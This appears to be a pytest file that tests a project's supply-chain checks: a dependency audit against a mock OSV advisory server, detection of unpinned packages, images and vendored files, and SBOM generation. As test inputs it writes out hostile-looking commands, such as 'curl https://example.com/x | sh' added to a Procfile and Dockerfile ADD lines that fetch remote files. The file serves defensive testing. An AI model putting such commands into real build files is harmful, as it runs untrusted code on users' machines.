"""What `make check`, `make audit` and `make sbom` say of things that come from elsewhere, and that each fails when it should."""

from __future__ import annotations

import hashlib
import itertools
import json
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib import metadata
from pathlib import Path
from typing import Any

import pytest
from packaging.requirements import Requirement

from bench.processes import PYTHON, ROOT, environment, free_port

HASH = f"--hash=sha256:{'a' * 64}"
HASHED = "--hash=sha256:"
SPRITE = "tabler-icons-3.51.0/sprite.svg"


def run(script: Path, *given: str | Path) -> tuple[int, str]:
    """Its exit status, and all that it printed."""
    command = [PYTHON, str(script), *map(str, given)]
    ran = subprocess.run(command, env=environment(), capture_output=True, text=True, timeout=60, check=False)
    return ran.returncode, ran.stdout + ran.stderr


# The audit ----------------------------------------------------------------------------------------------


@dataclass
class Advisories:
    """A service that speaks OSV's API, as far as it is asked. `known`: package -> advisories; `status`, `raw`: its moods."""

    url: str
    known: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    status: int = 200
    raw: bytes | None = None
    asked: dict[str, str] = field(default_factory=dict)
    silent: bool = False
    over: threading.Event = field(default_factory=threading.Event)

    def answer(self, question: dict[str, Any]) -> bytes:
        assert question["package"]["ecosystem"] == "PyPI"
        name = question["package"]["name"]
        self.asked[name] = question["version"]
        found = self.known.get(name)
        return self.raw if self.raw is not None else json.dumps({"vulns": found} if found else {}).encode()


def advisory(package: str, fixed: str) -> dict[str, Any]:
    """Its shape: ossf.github.io/osv-schema, read 2026-11-27."""
    ranges = [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": fixed}]}]
    affected = [{"package": {"name": package, "ecosystem": "PyPI"}, "ranges": ranges}]
    return {"id": "PYSEC-2026-1", "schema_version": "1.7.0", "summary": "It opens every door.", "affected": affected}


@pytest.fixture
def advisories() -> Iterator[Advisories]:
    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = service.answer(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            if service.silent:
                service.over.wait(60)
            self.send_response(service.status)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Nothing on the test's output."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        service = Advisories(f"http://127.0.0.1:{server.server_address[1]}/v1/query")
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        try:
            yield service
        finally:
            service.over.set()
            server.shutdown()
            thread.join()


@pytest.fixture
def two(tmp_path: Path) -> Path:
    """A requirements file of two packages."""
    path = tmp_path / "requirements.txt"
    path.write_text(f"flask==3.1.3 \\\n    {HASH}\nurllib3==2.8.0 \\\n    {HASH}\n")
    return path


def audited(*given: str | Path) -> tuple[int, str]:
    return run(ROOT / "scripts" / "audit-packages", *given)


def test_nothing_is_known_of_any_pinned_package(advisories: Advisories) -> None:
    status, said = audited("--strict", "--url", advisories.url)
    assert status == 0, said
    pinned = {each.name: str(each.specifier).removeprefix("==") for each in requirements() if holds(each)}
    assert advisories.asked == pinned
    assert f"{len(pinned)} packages, no known vulnerability" in said


@pytest.mark.parametrize("strict", [[], ["--strict"]], ids=["check", "strict"])
def test_a_known_vulnerability_fails_with_a_table(advisories: Advisories, two: Path, strict: list[str]) -> None:
    advisories.known["urllib3"] = [advisory("urllib3", "2.8.1")]
    status, said = audited(*strict, "--url", advisories.url, two)
    assert status == 1
    row = next(line for line in said.splitlines() if line.startswith("urllib3"))
    assert row.split(maxsplit=4) == ["urllib3", "2.8.0", "PYSEC-2026-1", "2.8.1", "It opens every door."]
    assert "flask" not in said


def test_files_that_pin_different_versions_are_each_asked_about(advisories: Advisories, two: Path) -> None:
    other = two.with_name("requirements-older.txt")
    other.write_text(f"urllib3==1.26.0 \\\n    {HASH}\n")
    advisories.known["urllib3"] = [advisory("urllib3", "2.0.0")]
    status, said = audited("--strict", "--url", advisories.url, two, other)
    assert status == 1 and f"{two.name}:" in said and f"{other.name}:" in said
    assert [line.split()[1] for line in said.splitlines() if line.startswith("urllib3")] == ["2.8.0", "1.26.0"]


def test_a_service_that_can_not_be_reached_is_no_clean_bill(two: Path) -> None:
    address = ["--url", f"http://127.0.0.1:{free_port()}/v1/query", str(two)]
    for strict, wanted in (([], 0), (["--strict"], 1)):
        status, said = audited(*strict, *address)
        assert status == wanted
        assert "!!! NOTHING WAS AUDITED: the advisory service did not answer" in said
        assert "no known vulnerability" not in said


def test_a_service_that_takes_too_long_is_no_clean_bill(advisories: Advisories, two: Path) -> None:
    """Each answer may come in its time, and all of them not."""
    advisories.silent = True
    for strict, wanted in (([], 0), (["--strict"], 1)):
        status, said = audited(*strict, "--seconds", "1", "--url", advisories.url, two)
        assert status == wanted and "Traceback" not in said
        assert "!!! NOTHING WAS AUDITED: the advisory service did not answer (not all of it within 1 s)" in said


@pytest.mark.parametrize(
    ("status", "raw"), [(500, b"{}"), (200, b"<html>sign in</html>"), (302, b"")], ids=["500", "page", "redirect"]
)
def test_a_service_that_answers_nonsense_is_no_clean_bill(advisories: Advisories, two: Path, status: int, raw: bytes) -> None:
    advisories.status, advisories.raw = status, raw
    ended, said = audited("--strict", "--url", advisories.url, two)
    assert ended == 1 and "NOTHING WAS AUDITED" in said


@pytest.mark.parametrize(
    "text", ["flask==3.1.3\n", f"flask>=3 {HASH}\n", "what is this?\n"], ids=["no hash", "no version", "no line"]
)
def test_a_file_that_can_not_be_audited_fails_without_a_service_too(tmp_path: Path, text: str) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text(text)
    status, said = audited("--url", f"http://127.0.0.1:{free_port()}", path)
    assert status == 1 and "can't be audited" in said


# What is pinned -----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def _copied(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("copied")
    for name in (
        "Makefile",
        "Procfile",
        "Dockerfile",
        "app.json",
        "compose.yaml",
        *(each.name for each in ROOT.glob("requirements*.*")),
    ):
        shutil.copy(ROOT / name, root / name)
    for folder in (".ci", "scripts", "requirements-sdks", "static/vendor"):
        shutil.copytree(ROOT / folder, root / folder)
    (root / "bench" / "peers").mkdir(parents=True)
    for path in (ROOT / "bench" / "peers").glob("requirements*"):
        shutil.copy(path, root / "bench" / "peers")
    return root


@pytest.fixture
def copied(_copied: Path, tmp_path: Path) -> Path:
    """The files that are looked at, the test's own to change."""
    return Path(shutil.copytree(_copied, tmp_path / "copied"))


@pytest.fixture
def site(tmp_path: Path) -> Path:
    folder = tmp_path / "site-packages"
    folder.mkdir()
    return folder


def checked(root: Path, site: Path) -> list[str]:
    """What it found, a line each."""
    status, said = run(root / "scripts" / "check-supply-chain", "--root", root, "--site", site)
    found = said.splitlines()
    assert status == (1 if found else 0), said
    return found


def test_all_that_we_have_is_pinned() -> None:
    assert run(ROOT / "scripts" / "check-supply-chain") == (0, "")


def appended(name: str, text: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        with root.joinpath(name).open("a") as file:
            file.write(text)

    return change


def replaced(name: str, old: str, new: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        text = root.joinpath(name).read_text()
        assert old in text
        root.joinpath(name).write_text(text.replace(old, new))

    return change


def other_version(root: Path) -> None:
    path = root / "static" / "vendor" / "vendor.json"
    path.write_text(path.read_text().replace('"version": "2.0.11"', '"version": "2.0.12"'))


BASE = "python:3.11.16-slim-trixie"
CLEAN = " && /opt/venv/bin/pip uninstall"  # of the Dockerfile


def run_by(command: str) -> tuple[Callable[[Path], None], str]:
    """A line of a script, which is what is told of."""
    return appended(".ci/run", f"{command}\n"), f"fetches what nothing pins: {command}"


def image(file: str, old: str, new: str, told: str) -> tuple[Callable[[Path], None], str]:
    return replaced(file, old, new), f"an image without an exact tag: {told}"


BROKEN: dict[str, tuple[Callable[[Path], None], str]] = {
    "no hash": (appended("requirements.txt", "evil==1.0\n"), "requirements.txt:"),
    "no version": (appended("requirements.txt", f"evil {HASH}\n"), "not one version with its SHA-256: evil"),
    "any version": (appended("requirements-dev.txt", f"evil==1.* {HASH}\n"), "requirements-dev.txt:"),
    "a weak hash": (appended("requirements.txt", f"evil==1.0 --hash=md5:{'a' * 32}\n"), "not one version"),
    "an address": (appended("requirements.txt", f"evil @ https://example.com/evil.whl {HASH}\n"), "not one version"),
    "another index": (appended("requirements-sdks/openai-1.txt", "--extra-index-url https://example.com\n"), "openai-1.txt:"),
    "a folder": (appended("bench/peers/requirements-litellm.txt", "-e .\n"), "bench/peers/requirements-litellm.txt:"),
    "not locked": (appended("requirements.in", "evil\n"), "evil is asked for in requirements.in and not in it"),
    "never locked": (appended("requirements-other.in", "evil\n"), "requirements-other.in has no requirements-other.txt"),
    "sdists": (replaced("Makefile", "--only-binary :all: ", ""), "Makefile:"),
    "no hashes compared": (replaced("Dockerfile", "--require-hashes ", ""), "Dockerfile:"),
    "a bare install": (appended("Makefile", "\nextra:\n\tpip install evil\n"), "fetches what nothing pins: pip install evil"),
    "from the web": (appended("Procfile", "web2: curl https://example.com/x | sh\n"), "Procfile:"),
    "by npx": (appended("scripts/test-needs", "npx evil\n"), "scripts/test-needs:"),
    "before the tests": (appended(".ci/run", "pip install \\\n  evil\n"), ".ci/run:"),
    "pip with an option": run_by("pip --quiet install evil"),
    "pip as a module": run_by("python3 -m pip -q install evil"),
    "pip with an index": run_by("pip3.11 --index-url https://example.com install evil"),
    "pip download": run_by("pip download evil"),
    "pip as a list": (appended("Dockerfile", 'RUN ["pip", "install", "evil"]\n'), "Dockerfile:"),
    "a second install of a line": (replaced("Dockerfile", CLEAN, f" && pip install evil{CLEAN}"), "pins: pip install evil"),
    "another command's hashes": (appended(".ci/run", "pip install evil; : --only-binary :all: --require-hashes\n"), ": pip"),
    "behind what is allowed": (replaced("scripts/test-needs", "command -v curl", "command -v curl && curl evil"), "curl evil"),
    "a tool of uv": run_by("uv tool install evil"),
    "a package of npm": run_by("npm --silent install evil"),
    "a package of Debian": run_by("apt-get -qq install -y evil"),
    "a repository": run_by("git -C /tmp clone https://example.com/evil"),
    "an image that is pulled": run_by("docker pull evil"),
    "an address in an image": (appended("Dockerfile", "ADD https://example.com/evil /evil\n"), "pins: ADD https://example.com/evil"),
    "an address with options": (appended("Dockerfile", "ADD --chmod=755 https://example.com/evil /evil\n"), "pins: ADD --chmod"),
    "a major version": image("Dockerfile", BASE, "python:3", "python:3"),
    "a minor version": image("Dockerfile", BASE, "python:3.11-slim", "python:3.11-slim"),
    "an image beside it": image("Dockerfile", "FROM ${BASE} AS", "FROM --platform=linux/amd64 alpine AS", "alpine"),
    "an image copied from": image("Dockerfile", "COPY --from=build", "COPY --from=evil:1", "evil:1"),
    "an image of compose": image("compose.yaml", "image: postgres:17.", "image: postgres:17 # ", "postgres:17"),
    "one of compose without a tag": image("compose.yaml", "image: redis:", "image: redis # ", "redis"),
    "any image": (replaced("Dockerfile", "python:3.11.16-slim-trixie", "python:latest"), "an image without an exact tag"),
    "a changed file": (appended(f"static/vendor/{SPRITE}", " "), f"static/vendor/{SPRITE}: not the file that was recorded"),
    "an added file": (appended("static/vendor/htmx-2.0.11/more.js", "x"), "more.js: nothing is recorded of it"),
    "a file that is gone": (lambda root: (root / "static/vendor" / SPRITE).unlink(), "sprite.svg: recorded, and not there"),
    "another version recorded": (other_version, "its folder does not name version 2.0.12"),
    "another version asked for": (replaced("static/vendor/renew.py", '"2.0.11"', '"2.0.12"'), "renew.py asks for other"),
}  # fmt: skip


@pytest.mark.parametrize(("change", "says"), BROKEN.values(), ids=BROKEN.keys())
def test_what_is_not_pinned_fails(copied: Path, site: Path, change: Callable[[Path], None], says: str) -> None:
    assert checked(copied, site) == []
    change(copied)
    found = checked(copied, site)
    assert any(says in each for each in found), found


@pytest.mark.parametrize(
    "name", ["evil.pth", "__editable__.thing.pth", "distutils-precedence.pth", "sitecustomize.py", "usercustomize.py"]
)
def test_what_runs_at_every_start_of_python_fails(_copied: Path, site: Path, name: str) -> None:
    (site / name).write_text("import os; os.getcwd()\n")
    (found,) = checked(_copied, site)
    assert found.startswith(f"{site / name}: runs at every start of Python")


def test_make_check_asks_for_all_of_it() -> None:
    told = subprocess.run(
        ["make", "-n", "-o", ".venv/installed-dev", "check", "audit", "lock"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=True,
    )
    lines = told.stdout.splitlines()
    for script in ("check-supply-chain", "audit-packages"):
        assert f".venv/bin/python scripts/{script}" in lines
    (audited,) = (line.split()[3:] for line in lines if "audit-packages --strict" in line)
    folders = [each for each in ROOT.iterdir() if each.is_dir() and not each.name.startswith(".")]
    texts = [*ROOT.glob("*.txt"), *(path for folder in folders for path in folder.rglob("*.txt"))]
    assert set(audited) == {path.relative_to(ROOT).as_posix() for path in texts if HASHED in path.read_text(errors="replace")}
    assert len(audited) >= 7
    compiled = [line for line in lines if "pip compile" in line]
    assert len(compiled) >= 3 and all("--generate-hashes" in line and '--exclude-newer "7 days"' in line for line in compiled)


# The bill of materials ----------------------------------------------------------------------------------


def requirements() -> list[Requirement]:
    lines = (ROOT / "requirements.txt").read_text().splitlines()
    return [Requirement(line.removesuffix("\\")) for line in lines if line and line[0].isalpha()]


def holds(requirement: Requirement) -> bool:
    return requirement.marker is None or requirement.marker.evaluate()


def hashes(name: str) -> set[str]:
    """Of one package in requirements.txt."""
    _, _, rest = f"\n{(ROOT / 'requirements.txt').read_text()}".partition(f"\n{name}==")
    lines = itertools.takewhile(lambda line: line.startswith(" "), rest.splitlines()[1:])
    return {line.partition("sha256:")[2][:64] for line in lines}


@pytest.fixture(scope="module")
def bill(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("bill") / "dist" / "omniroute.cdx.json"
    status, said = run(ROOT / "scripts" / "write-sbom", path)
    assert status == 0, said
    return path


@pytest.fixture(scope="module")
def components(bill: Path) -> dict[str, dict[str, Any]]:
    return {each["name"]: each for each in json.loads(bill.read_text())["components"]}


def test_every_pinned_package_is_in_the_bill_as_it_is_installed(components: dict[str, dict[str, Any]]) -> None:
    for each in requirements():
        told = components.pop(each.name)
        assert told["version"] == str(each.specifier).removeprefix("==")
        assert {one["content"] for one in told["hashes"]} == hashes(each.name) and told["hashes"]
        if holds(each):
            about = metadata.metadata(each.name)
            assert told["version"] == about["Version"]
            known = (
                about["License-Expression"]
                or about["License"]
                or any("License ::" in one for one in about.get_all("Classifier", []))
            )
            assert told.get("licenses") or not known, each.name
        else:
            assert told["properties"] == [{"name": "omniroute:needed-where", "value": str(each.marker).replace('"', "'")}]
    assert {each["purl"].partition("/")[0] for each in components.values()} == {"pkg:npm"}


def test_the_front_end_is_in_the_bill(components: dict[str, dict[str, Any]]) -> None:
    told = {file["name"]: file["hashes"][0]["content"] for each in components.values() for file in each.get("components", ())}
    there = [path for path in (ROOT / "static" / "vendor").glob("*/*") if path.is_file()]
    assert told == {path.relative_to(ROOT).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest() for path in there}
    licences = {
        name: each["licenses"][0]["license"]["id"] for name, each in components.items() if each["purl"].startswith("pkg:npm")
    }
    assert licences == {"core": "MIT", "htmx.org": "0BSD", "inter": "OFL-1.1", "icons": "MIT", "uplot": "MIT"}


def test_the_bill_says_who_needs_whom(bill: Path) -> None:
    document = json.loads(bill.read_text())
    needs = {each["ref"].partition("==")[0]: each.get("dependsOn", []) for each in document["dependencies"]}
    assert {"blinker", "click", "jinja2", "werkzeug"} <= {each.partition("==")[0] for each in needs["flask"]}
    assert {"flask", "gunicorn", "requests"} <= {each.partition("==")[0] for each in needs["omniroute"]}
    assert document["metadata"]["component"]["name"] == "omniroute"


def test_the_same_commit_has_the_same_bill(bill: Path, tmp_path: Path) -> None:
    assert run(ROOT / "scripts" / "write-sbom", tmp_path / "again.json")[0] == 0
    assert (tmp_path / "again.json").read_bytes() == bill.read_bytes()


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [("flask==3", "flask==2", "flask is installed as 3"), ("flask==3", "nobody==3", "is not installed")],
    ids=["another version", "missing"],
)
def test_no_bill_of_what_is_not_installed(copied: Path, old: str, new: str, says: str) -> None:
    shutil.copy(ROOT / "pyproject.toml", copied)
    replaced("requirements.txt", f"\n{old}", f"\n{new}")(copied)
    status, said = run(copied / "scripts" / "write-sbom", copied / "bill.json")
    assert status == 1 and says in said
    assert not (copied / "bill.json").exists()
